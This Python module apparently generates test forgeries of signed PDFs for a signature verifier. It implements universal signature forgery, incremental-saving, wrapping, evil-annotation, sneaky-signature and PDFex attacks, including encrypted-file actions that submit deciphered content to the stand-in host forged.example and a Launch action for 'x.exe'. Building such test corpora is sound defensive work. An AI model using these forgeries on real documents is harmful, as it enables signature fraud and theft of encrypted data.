"""Forgeries of sealed files, made from our own: the classes known from the literature, several of each.

Every maker takes a genuine file and gives one that shows, or means, something else. Classes and names follow the
published attacks: universal forgery (signature exclusion), incremental saving, wrapping, the shadow attacks, evil
annotation, sneaky signature and PDFex.
"""

import re
from collections.abc import Callable
from io import BytesIO
from typing import Final

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from connectors.documents.appending import AppendingWriter

Forge = Callable[[bytes], bytes]
Change = Callable[[IncrementalPdfFileWriter], None]

PAID = b"BT /F1 40 Tf 60 400 Td (PAID 9,999,999) Tj ET"
WHITE = [FloatObject("1.0")] * 3
PAGE_BOX = [0, 0, 595, 842]


def name(text: str) -> NameObject:
    return NameObject("/" + text)


def record(**entries: generic.PdfObject) -> DictionaryObject:
    return DictionaryObject({name(key): value for key, value in entries.items()})


def numbers(values: list[int]) -> ArrayObject:
    return ArrayObject(NumberObject(value) for value in values)


def appended(change: Change, *, password: str | None = None) -> Forge:
    """An incremental update, well-formed as any program writes it."""

    def forge(pdf: bytes) -> bytes:
        writer = AppendingWriter(BytesIO(pdf))
        if password is not None:
            writer.encrypt(password)
        change(writer)
        output = BytesIO()
        writer.write(output)
        return output.getvalue()

    return forge


def replaced(old: bytes, new: bytes) -> Forge:
    """The same length put in place of what is there, as an editor of bytes does it; the last occurrence."""

    def forge(pdf: bytes) -> bytes:
        place = pdf.rindex(old)
        return pdf[:place] + new.ljust(len(old)) + pdf[place + len(old) :]

    return forge


def room(pdf: bytes) -> tuple[int, int]:
    """Where the CMS stands, from `<` to behind `>`."""
    start = pdf.index(b"/Contents <") + len(b"/Contents ")
    return start, pdf.index(b">", start) + 1


def in_room(content: Callable[[bytes], bytes]) -> Forge:
    """Another content of the signature's room, the file's length and all places as they were."""

    def forge(pdf: bytes) -> bytes:
        start, end = room(pdf)
        return pdf[:start] + content(pdf[start:end]).ljust(end - start) + pdf[end:]

    return forge


def within_zeros(hidden: Callable[[bytes], bytes]) -> Forge:
    """Objects hidden in the zeros behind the CMS: the hexadecimal string is closed early, another opened after."""

    def forge(pdf: bytes) -> bytes:
        start, end = room(pdf)
        signature = pdf[start:end].rstrip(b">").rstrip(b"0")
        signature += b"0" * (1 - len(signature) % 2)
        inside = signature + b">" + hidden(pdf)
        return pdf[:start] + inside + b"/X <".rjust(5) + b"0" * (end - start - len(inside) - 6) + b">" + pdf[end:]

    return forge


# Universal signature forgery: the signature's dictionary is there, and what a reader would check is not.
USF: Final[dict[str, Forge]] = {
    "no_contents": replaced(b"/Contents <", b"/Xontents <"),
    "empty_contents": in_room(lambda _: b"<>"),
    "contents_of_zeros": in_room(lambda old: b"<" + b"0" * (len(old) - 2) + b">"),
    "null_contents": in_room(lambda _: b"null"),
    "no_byte_range": replaced(b"/ByteRange", b"/XyteRange"),
    "byte_range_of_zeros": lambda pdf: re.sub(rb"/ByteRange \[[^]]*\]", _padded(b"/ByteRange [0 0 0 0]"), pdf),
    "negative_byte_range": lambda pdf: re.sub(rb"/ByteRange \[[^]]*\]", _padded(b"/ByteRange [0 -1 -1 9]"), pdf),
    "short_byte_range": lambda pdf: re.sub(rb"/ByteRange \[[^]]*\]", _padded(b"/ByteRange [0 9]"), pdf),
    "byte_range_over_the_end": lambda pdf: re.sub(
        rb"/ByteRange \[[^]]*\]", _padded(b"/ByteRange [0 9 10 99999999]"), pdf
    ),
    "no_value_of_the_field": replaced(b"/V 86 0 R", b"/X 86 0 R"),
    "null_byte_range": lambda pdf: re.sub(rb"/ByteRange \[[^]]*\]", _padded(b"/ByteRange null"), pdf),
}


def _padded(new: bytes) -> Callable[[re.Match[bytes]], bytes]:
    return lambda found: new.ljust(len(found.group()))


# Incremental saving: something is appended, with and without the marks that readers look for.
def _page_content(writer: IncrementalPdfFileWriter) -> None:
    page = page_of(writer)
    page["/Contents"] = writer.add_object(StreamObject(stream_data=PAID))
    writer.mark_update(page.container_ref)


def page_of(writer: IncrementalPdfFileWriter) -> DictionaryObject:
    kid = writer.root["/Pages"]["/Kids"][0]
    assert isinstance(kid, DictionaryObject)
    return kid


def _more_pages(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    content = writer.add_object(StreamObject(stream_data=PAID))
    page = record(Type=name("Page"), Parent=pages.container_ref and IndirectObject(
        pages.container_ref.idnum, 0, writer), MediaBox=numbers(PAGE_BOX), Contents=content)  # fmt: skip
    pages["/Kids"].append(writer.add_object(page))
    pages["/Count"] = NumberObject(int(pages["/Count"]) + 1)
    writer.mark_update(pages.container_ref)


def _other_attachment(writer: IncrementalPdfFileWriter) -> None:
    for reference in writer.root["/AF"]:
        kept = reference.get_object()
        kept["/EF"]["/F"] = writer.add_object(StreamObject(stream_data=b'{"forged": true}'))
        writer.mark_update(kept.container_ref)


def _other_box(writer: IncrementalPdfFileWriter) -> None:
    page = page_of(writer)
    page["/CropBox"] = numbers([0, 0, 90, 90])
    writer.mark_update(page.container_ref)


def _other_number(writer: IncrementalPdfFileWriter) -> None:
    information = writer.trailer["/Info"]
    information["/Keywords"] = TextStringObject("doc_00000000000000000000000000")
    writer.mark_update(information.container_ref)


def _other_metadata(writer: IncrementalPdfFileWriter) -> None:
    old = writer.root["/Metadata"]
    data = old.data.replace(b"</rdf:RDF>", b"<!-- other --></rdf:RDF>")
    writer.root["/Metadata"] = writer.add_object(
        StreamObject(record(Type=name("Metadata"), Subtype=name("XML")), stream_data=data)
    )
    writer.update_root()


def _opens_something(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/OpenAction"] = record(S=name("JavaScript"), JS=TextStringObject("app.alert(1)"))
    writer.update_root()


def _bare_objects(tail: bytes) -> Forge:
    """No cross-reference table: readers that mend files find the object by its number."""
    return lambda pdf: pdf + b"66 0 obj\n<</Type /Page /MediaBox [0 0 90 90]>>\nendobj\n" + tail


def _with_copied_signature(pdf: bytes) -> bytes:
    """The signature's object once more at the end, so that it seems to be the last thing in the file."""
    forged = appended(_page_content)(pdf)
    start = pdf.rindex(b"86 0 obj")
    return forged + pdf[start : pdf.index(b"endobj", start) + 7] + pdf[pdf.rindex(b"xref\n") :]


ISA: Final[dict[str, Forge]] = {
    "page_content": appended(_page_content),
    "more_pages": appended(_more_pages),
    "other_attachment": appended(_other_attachment),
    "other_box": appended(_other_box),
    "other_number": appended(_other_number),
    "other_metadata": appended(_other_metadata),
    "opens_something": appended(_opens_something),
    "no_table": _bare_objects(b""),
    "trailer_alone": _bare_objects(b"trailer\n<</Root 82 0 R /Size 87>>\n%%EOF\n"),
    "end_of_file_alone": _bare_objects(b"%%EOF\n"),
    "copied_signature": _with_copied_signature,
}


# Wrapping: what was signed stays in the file byte for byte; what is shown lies between or before.
def _moved_second_part(between: bytes) -> Forge:
    """The second signed part is moved back, and a ByteRange that says so is put before the genuine one."""

    def forge(pdf: bytes) -> bytes:
        start, end = room(pdf)
        length = len(pdf) - end
        head = pdf[:end] + b"/ByteRange [0 %d %010d %d] " % (start, 0, length) + between
        return head.replace(b"%010d" % 0, b"%010d" % len(head)) + pdf[end:]

    return forge


SHOWN = b">>\nendobj\n66 0 obj\n<</Type /Page /Parent 3 0 R /MediaBox [0 0 90 90]>>\nendobj\n"
SWA: Final[dict[str, Forge]] = {
    "moved_with_objects": _moved_second_part(SHOWN),
    "moved_with_a_comment": _moved_second_part(b"%" + b"x" * 40 + b"\n"),
    "moved_with_table": _moved_second_part(
        SHOWN + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Root 82 0 R>>\nstartxref\n0\n%%EOF\n"
    ),
    "byte_range_in_zeros": within_zeros(lambda _: b"/ByteRange [0 9 10 9]"),
    "objects_in_zeros": within_zeros(lambda _: SHOWN),
    "table_in_zeros": within_zeros(
        lambda _: b"\nxref\n0 1\n0000000000 65535 f \ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
    ),
    "another_cms_behind": lambda pdf: pdf[: room(pdf)[1] - 9] + b"DEADBEEF" + pdf[room(pdf)[1] - 1 :],
    "something_before": lambda pdf: b"%PDF-1.7\n" + SHOWN + pdf,
    "twice_in_a_row": lambda pdf: pdf + pdf,
}


# Evil annotation: a certified document may allow notes, and a note may cover what it likes.
def picture() -> StreamObject:
    form = record(Type=name("XObject"), Subtype=name("Form"), BBox=numbers([0, 0, 300, 200]))
    return StreamObject(form, stream_data=b"1 1 1 rg 0 0 300 200 re f " + PAID)


def noted(subtype: str, **more: generic.PdfObject) -> Forge:
    """A note over the page."""

    def note(writer: IncrementalPdfFileWriter) -> None:
        page = page_of(writer)
        look = record(N=writer.add_object(picture()))
        added = record(
            Type=name("Annot"), Subtype=name(subtype), Rect=numbers([100, 100, 400, 300]), F=NumberObject(4), AP=look
        )
        added.update({name(key): value for key, value in more.items()})
        page["/Annots"] = ArrayObject([writer.add_object(added)])
        writer.mark_update(page.container_ref)

    return appended(note)


EAA: Final[dict[str, Forge]] = {
    "free_text": noted("FreeText", Contents=TextStringObject("PAID"), DA=TextStringObject("/Helv 40 Tf 0 g")),
    "stamp": noted("Stamp"),
    "white_square": noted("Square", IC=ArrayObject(WHITE), C=ArrayObject(WHITE)),
    "redaction": noted("Redact"),
    "ink": noted("Ink", InkList=ArrayObject([numbers([0, 0, 90, 90])])),
    "link": noted("Link", A=record(S=name("URI"), URI=TextStringObject("https://forged.example/"))),
    "attached_file": noted("FileAttachment", Contents=TextStringObject("appendix")),
}


# Sneaky signature: a certified document may allow signatures, and a signature may look like anything.
def with_field(
    kind: str, *, rect: list[int], value: bool = False, look: bool = True, second_page: bool = False
) -> Change:
    """A form field with a picture of its own over the page."""

    def add(writer: IncrementalPdfFileWriter) -> None:
        page = page_of(writer)
        field = record(
            FT=name(kind), T=TextStringObject("Forged"), Type=name("Annot"), Subtype=name("Widget"),
            F=NumberObject(132), Rect=numbers(rect),
        )  # fmt: skip
        if look:
            field["/AP"] = record(N=writer.add_object(picture()))
        if value:
            field["/V"] = writer.add_object(
                record(Type=name("Sig"), Filter=name("Adobe.PPKLite"), SubFilter=name("ETSI.CAdES.detached"))
            )
        added = writer.add_object(field)
        form = writer.root["/AcroForm"]
        form["/Fields"].append(added)
        writer.mark_update(form.container_ref)
        page["/Annots"] = ArrayObject([added])
        writer.mark_update(page.container_ref)

    return add


SSA: Final[dict[str, Forge]] = {
    "empty_field_that_shows": appended(with_field("Sig", rect=[100, 100, 400, 300])),
    "empty_field_unseen": appended(with_field("Sig", rect=[0, 0, 0, 0], look=False)),
    "field_over_the_page": appended(with_field("Sig", rect=PAGE_BOX)),
    "signature_without_content": appended(with_field("Sig", rect=[100, 100, 400, 300], value=True)),
    "text_field": appended(with_field("Tx", rect=[100, 100, 400, 300])),
    "button": appended(with_field("Btn", rect=[100, 100, 400, 300])),
}


# PDFex: a file that is encrypted, with plain parts that carry off what the reader has deciphered.
def pdfex(password: str) -> dict[str, Forge]:
    """Made from a file that `password` opens."""

    def opens(action: DictionaryObject) -> Change:
        def add(writer: IncrementalPdfFileWriter) -> None:
            writer.root["/OpenAction"] = action
            writer.update_root()

        return add

    def form(writer: IncrementalPdfFileWriter) -> None:
        with_field("Btn", rect=PAGE_BOX)(writer)
        opens(record(S=name("SubmitForm"), F=TextStringObject("https://forged.example/"), Flags=NumberObject(256)))(
            writer
        )

    plain_tail = b"trailer\n<</Root 900 0 R /Size 901>>\nstartxref\n9\n%%EOF\n"
    return {
        "address": appended(
            opens(record(S=name("URI"), URI=TextStringObject("https://forged.example/"))), password=password
        ),
        "form": appended(form, password=password),
        "script": appended(
            opens(record(S=name("JavaScript"), JS=TextStringObject("this.submitForm('x')"))), password=password
        ),
        "started_program": appended(opens(record(S=name("Launch"), F=TextStringObject("x.exe"))), password=password),
        "plain_catalogue": lambda pdf: (
            pdf + b"900 0 obj\n<</Type /Catalog /OpenAction <</S /URI>>>>\nendobj\n" + plain_tail
        ),
        "streams_as_they_are": replaced(b"/StmF /StdCF", b"/StmF /Identity"),
        "texts_as_they_are": replaced(b"/StrF /StdCF", b"/StrF /Identity"),
        "no_encryption_any_more": replaced(b"/Encrypt ", b"/Xncrypt "),
    }
